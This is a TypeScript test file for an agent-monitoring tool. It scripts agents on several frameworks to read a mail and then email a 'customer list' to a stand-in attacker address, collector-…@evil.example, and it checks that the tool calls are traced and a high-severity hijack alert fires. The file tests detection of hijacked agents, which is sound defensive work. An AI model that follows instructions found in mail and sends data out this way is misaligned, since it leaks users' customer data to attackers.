/**
 * Agents of other makers, each sending as its own package sends: their calls appear with agent,
 * arguments and result, and the mail that hijacks them raises the alert. Only the model is scripted.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Environment,
  hasLiveClients,
  hasPythonClients,
  type Listening,
  runClient,
  startClient,
} from './live-clients.ts';
import { LiveWorld } from './live-world.ts';

const LONG_MS = 240_000;
const stolen = (name: string) => ({
  to: `collector-${name}@evil.example`,
  subject: 'customer list',
  body: 'All of them.',
});
const stepsOf = (name: string) => [
  { tool: 'read_mail', input: { id: 'm-666' } },
  { tool: 'send_email', input: stolen(name) },
  { text: 'Invoice 4471 has come.' },
];
const world = new LiveWorld();
let model: Listening;

function agentOf(script: string): string {
  return script.replace(/\.\w+$/u, '');
}

const otlp = (): Environment => ({
  OTEL_EXPORTER_OTLP_ENDPOINT: world.url,
  OTEL_EXPORTER_OTLP_HEADERS: `Authorization=Bearer ${world.token}`,
  OTEL_EXPORTER_OTLP_COMPRESSION: 'gzip',
});
const langsmith = (): Environment => ({
  LANGSMITH_TRACING: 'true',
  LANGSMITH_ENDPOINT: world.url,
  LANGSMITH_API_KEY: world.token,
});

const CLIENTS: readonly (readonly [string, string, () => Environment])[] = [
  ['the OTel SDK, protobuf and gzip', 'otel-agent.mjs', otlp],
  [
    'OpenAI’s Agents SDK',
    'openai-agents.mjs',
    () => ({ WAYWARDEN: world.url, TOKEN: world.token }),
  ],
  ['LangGraph, through LangSmith', 'langgraph.mjs', langsmith],
  ['Vercel’s AI SDK', 'vercel-ai.mjs', otlp],
];
const IN_PYTHON: typeof CLIENTS = [['the OTel SDK in Python', 'otel_agent.py', otlp]];
const AGENTS = [...CLIENTS, ...IN_PYTHON].map(([, script]) => agentOf(script));

beforeAll(async () => {
  if (!hasLiveClients) return;
  await world.open(...AGENTS.map((name) => `agent/${name}`));
  const steps = AGENTS.map((name) => [`m-666 for ${name}.`, stepsOf(name)]);
  const env = { MODEL_SCRIPT: JSON.stringify(Object.fromEntries(steps)) };
  model = world.keep(await startClient('model-server.mjs', world.folder, env));
}, LONG_MS);

afterAll(() => world.close(), LONG_MS);

async function story(script: string, settings: () => Environment): Promise<void> {
  const name = agentOf(script);
  const env = {
    ...{ AGENT: name, HOME: world.folder, OPENAI_BASE_URL: `${model.url}/v1` },
    ...settings(),
  };
  const { code, stderr } = await runClient(script, world.folder, env);
  expect({ code, stderr: code === 0 ? '' : stderr }).toEqual({ code: 0, stderr: '' });
  const calls = await world.eventsOf(`agent/${name}`, 2);
  expect(calls).toMatchObject([
    {
      ...{ tool: { name: 'read_mail' }, outcome: 'success' },
      ...{ args: { shape: ['id:string'] }, result: { trust: 'untrusted' } },
    },
    {
      ...{ tool: { name: 'send_email' }, outcome: 'success' },
      args: { shape: ['body:string', 'subject:string', 'to:string'] },
    },
  ]);
  expect((await world.alertOf(`agent/${name}`, 'hijack_suspected')).severity).toBe('high');
}

describe.skipIf(!hasLiveClients)('an agent that sends by its own package', () => {
  it.each(CLIENTS)(
    '%s: is seen, and found hijacked',
    (_, script, settings) => story(script, settings),
    LONG_MS,
  );
  it.skipIf(!hasPythonClients).each(IN_PYTHON)(
    '%s: is seen, and found hijacked',
    (_, script, settings) => story(script, settings),
    LONG_MS,
  );
});
